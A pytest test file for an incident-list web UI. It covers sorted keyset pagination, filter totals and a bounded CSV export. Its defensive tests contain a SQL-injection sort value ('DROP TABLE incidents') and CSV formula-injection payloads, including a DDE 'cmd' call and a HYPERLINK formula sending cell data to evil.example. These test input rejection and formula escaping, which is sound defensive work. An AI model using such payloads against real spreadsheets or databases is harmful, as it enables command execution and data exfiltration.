"""The incident list at fleet size: the total, sorts with keyset pages, "needs you" as one
filter, and the CSV export (the same rows, bounded, no spreadsheet formulas).

Rows are inserted directly (opened_at shuffled against the ids, with ties) so every sort is
checked against an order worked out here; the pages and the total run on SQLite and on
PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import random
import re
from datetime import UTC, datetime, timedelta

import pytest
from flask.testing import FlaskClient
from sqlalchemy.orm import Session, sessionmaker

from engine.read.models import Incident, IncidentPage
from engine.store.models import Incident as IncidentRow
from webui import incident_list
from webui.incident_list import CSV_COLUMNS, csv_lines

BOTH_BACKENDS = pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)
T0 = datetime(2026, 3, 1, tzinfo=UTC)
HOSTS = [f"web{n}" for n in range(7)]
KINDS = ["cpu", "memory", "disk"]
STATUSES = ["open", "resolved", "escalated", "failed", "awaiting_approval"]
WAITING = {"escalated", "failed", "awaiting_approval"}
LINK = re.compile(r'href="/incidents/(\d+)"')
NEXT = re.compile(r'href="(/incidents\?[^"]*)" rel="next"')
TOTAL = re.compile(r'<p class="list-total"><strong>([\d,]+)</strong>')


def add(sessions: sessionmaker[Session], rows: list[dict[str, object]]) -> list[int]:
    """Insert incidents (each dict: host, kind, status, opened, and optionally summary,
    closed); their ids."""
    with sessions.begin() as session:
        made = [
            IncidentRow(
                host=r["host"],
                kind=r["kind"],
                status=r["status"],
                attempts=0,
                opened_at=r["opened"],
                updated_at=r["opened"],
                closed_at=r.get("closed"),
                cpu_before=91.5,
                cpu_after=None,
                summary=r.get("summary", "load"),
            )
            for r in rows
        ]
        session.add_all(made)
        session.flush()
        return [m.id for m in made]


def fleet(sessions: sessionmaker[Session], n: int = 130) -> list[dict[str, object]]:
    """``n`` incidents, opened in an order unlike their ids (some at the same second); each
    row with its id. Resolved ones and every fourth failed one are closed."""
    rng = random.Random(13)
    rows: list[dict[str, object]] = []
    for i in range(n):
        status = rng.choice(STATUSES)
        opened = T0 + timedelta(minutes=rng.randrange(60))
        closed = status == "resolved" or (status == "failed" and i % 4 == 0)
        rows.append(
            {
                "host": rng.choice(HOSTS),
                "kind": rng.choice(KINDS),
                "status": status,
                "opened": opened,
                "closed": opened + timedelta(minutes=5) if closed else None,
            }
        )
    for row, ident in zip(rows, add(sessions, rows), strict=True):
        row["id"] = ident
    return rows


def expected(rows: list[dict[str, object]], sort: str, order: str) -> list[int]:
    """The ids in the order the list must show: by (column, id), both the same way."""
    column = {"opened": "opened", "host": "host", "status": "status", "kind": "kind"}[sort]
    ranked = sorted(rows, key=lambda r: (r[column], r["id"]), reverse=order == "desc")
    return [int(str(r["id"])) for r in ranked]


def walk(client: FlaskClient, url: str) -> list[list[int]]:
    """The ids of every page, following the "next" links from ``url``."""
    pages: list[list[int]] = []
    while url:
        response = client.get(url)
        assert response.status_code == 200, response.text
        pages.append([int(i) for i in LINK.findall(response.text)])
        found = NEXT.search(response.text)
        url = found.group(1).replace("&amp;", "&") if found else ""
        assert len(pages) <= 10, "the pages do not end"
    return pages


def total(client: FlaskClient, query: str) -> int:
    found = TOTAL.search(client.get(f"/incidents?{query}").text)
    assert found, "no total on the page"
    return int(found.group(1).replace(",", ""))


@BOTH_BACKENDS
@pytest.mark.parametrize("order", ["asc", "desc"])
def test_every_sort_pages_in_order_without_gaps_or_repeats(
    viewer_client: FlaskClient, sessions: sessionmaker[Session], order: str
) -> None:
    rows = fleet(sessions)
    for sort in ("opened", "host", "status", "kind"):
        pages = walk(viewer_client, f"/incidents?sort={sort}&order={order}")
        assert [len(p) for p in pages] == [50, 50, 30], sort
        assert [i for page in pages for i in page] == expected(rows, sort, order), sort
    # Filters and sort together: the pages stay within the filter.
    cpu = [r for r in rows if r["kind"] == "cpu"]
    pages = walk(viewer_client, f"/incidents?kind=cpu&sort=host&order={order}")
    assert [i for page in pages for i in page] == expected(cpu, "host", order)


@BOTH_BACKENDS
def test_the_total_counts_what_the_filters_match(
    viewer_client: FlaskClient, sessions: sessionmaker[Session]
) -> None:
    rows = fleet(sessions)
    assert total(viewer_client, "") == len(rows)
    web1_open = [r for r in rows if r["host"] == "web1" and r["status"] == "open"]
    assert total(viewer_client, "host=web1&status=open") == len(web1_open)
    assert total(viewer_client, "kind=memory&sort=host") == sum(r["kind"] == "memory" for r in rows)
    needs = {int(str(r["id"])) for r in rows if r["status"] in WAITING and r["closed"] is None}
    assert 0 < len(needs) < len(rows)
    assert total(viewer_client, "status=needs_you") == len(needs)
    shown = walk(viewer_client, "/incidents?status=needs_you")
    assert {i for page in shown for i in page} == needs
    # The total ignores the page: the same on the second page as on the first.
    second = NEXT.search(viewer_client.get("/incidents").text)
    assert second
    assert total(viewer_client, second.group(1).split("?", 1)[1].replace("&amp;", "&")) == 130


def test_headers_sort_and_keep_the_filters(
    viewer_client: FlaskClient, sessions: sessionmaker[Session]
) -> None:
    fleet(sessions, n=5)
    page = viewer_client.get("/incidents?kind=cpu&q=load&sort=host&order=asc").text
    heads = dict(re.findall(r'<a href="/incidents\?([^"]*)" class="sort[^"]*">(\w+)', page))
    by_label = {label: query.replace("&amp;", "&") for query, label in heads.items()}
    assert set(by_label) == {"Host", "Kind", "Status", "Opened"}
    for query in by_label.values():
        assert "kind=cpu" in query and "q=load" in query and "before=" not in query
    assert "sort=host" in by_label["Host"] and "order=desc" in by_label["Host"]  # turned round
    assert "sort=opened" in by_label["Opened"] and "order=desc" in by_label["Opened"]
    assert "sort=status" in by_label["Status"] and "order=asc" in by_label["Status"]
    assert 'aria-sort="ascending"' in page


@pytest.mark.parametrize(
    "query",
    [
        "sort=id",
        "sort=opened_at",
        "sort=host;DROP TABLE incidents",
        "sort=HOST",
        "order=up",
        "sort=host&order=DESC",
        "status=needs_me",
    ],
)
def test_bad_sort_or_order_is_a_400_naming_it(viewer_client: FlaskClient, query: str) -> None:
    name = query.split("=", 1)[0] if "&" not in query else "order"
    for path in ("/incidents", "/incidents.csv"):
        response = viewer_client.get(f"{path}?{query}")
        assert response.status_code == 400, (path, query)
        assert f"{name} must be" in response.text, (path, query)


def stamp(value: object) -> str:
    """A time as the CSV writes it: UTC ISO 8601 with a Z; empty for none."""
    if value is None:
        return ""
    assert isinstance(value, datetime)
    return value.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def read_csv(client: FlaskClient, query: str) -> list[list[str]]:
    response = client.get(f"/incidents.csv?{query}")
    assert response.status_code == 200, response.text
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.text, newline="")))


def test_csv_holds_the_filtered_sorted_list(
    viewer_client: FlaskClient, client: FlaskClient, sessions: sessionmaker[Session]
) -> None:
    rows = fleet(sessions)
    query = "kind=cpu&sort=status&order=desc"
    pages = walk(viewer_client, f"/incidents?{query}")
    lines = read_csv(viewer_client, query)
    assert tuple(lines[0]) == CSV_COLUMNS
    assert [int(line[0]) for line in lines[1:]] == [i for page in pages for i in page]
    first = next(r for r in rows if r["id"] == int(lines[1][0]))
    assert lines[1][1:6] == [
        first["host"],
        "cpu",
        first["status"],
        stamp(first["opened"]),
        stamp(first["closed"]),
    ]
    assert lines[1][6:] == ["91.5", "", "load"]
    everything = read_csv(viewer_client, "")
    assert len(everything) == 1 + len(rows)
    # Signed out: the login page, as for the list.
    response = client.get("/incidents.csv")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login?next=")


def test_csv_streams_in_pages_and_says_when_it_is_cut(
    viewer_client: FlaskClient, sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = fleet(sessions, n=40)
    monkeypatch.setattr(incident_list, "CSV_BATCH", 7)  # six pages for 40 rows
    whole = read_csv(viewer_client, "sort=opened&order=asc")
    assert [int(line[0]) for line in whole[1:]] == expected(rows, "opened", "asc")
    monkeypatch.setattr(incident_list, "CSV_ROW_CAP", 20)
    cut = read_csv(viewer_client, "sort=opened&order=asc")
    assert [int(line[0]) for line in cut[1:-1]] == expected(rows, "opened", "asc")[:20]
    assert cut[-1] == ["# cut: the first 20 rows only; narrow the filters"]
    response = viewer_client.get("/incidents.csv")
    assert response.headers["X-Total-Count"] == "40"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_become_formulas(
    viewer_client: FlaskClient, sessions: sessionmaker[Session], start: str
) -> None:
    host = f"{start}cmd|' /C calc'!A0"
    summary = f'{start}HYPERLINK("http://evil.example/?x="&A1, "click")\nsecond, line'
    row = {"host": host, "kind": "cpu", "status": "open", "opened": T0, "summary": summary}
    add(sessions, [row])
    (header, line) = read_csv(viewer_client, "")
    assert tuple(header) == CSV_COLUMNS
    assert line[1] == "'" + host
    assert line[8] == "'" + summary  # quotes, comma and newline round-trip through the csv module


def test_csv_lines_cut_at_the_cap_without_reading_further() -> None:
    def item(ident: int) -> Incident:
        return Incident(
            id=ident,
            host="web1",
            kind="cpu",
            status="open",
            action=None,
            attempts=0,
            opened_at=T0,
            closed_at=None,
            cpu_before=None,
            cpu_after=None,
            summary="s",
        )

    asked: list[tuple[int | None, int]] = []

    def read(cursor: int | None, limit: int) -> IncidentPage:
        asked.append((cursor, limit))
        start = cursor or 0
        items = [item(start + k + 1) for k in range(limit)]
        return IncidentPage(items=items, next_before=start + limit)

    text = "".join(csv_lines(read, str, cap=5))
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert [line[0] for line in lines[1:-1]] == ["1", "2", "3", "4", "5"]
    assert lines[-1][0].startswith("# cut: the first 5 rows")
    assert asked == [(None, 5)]
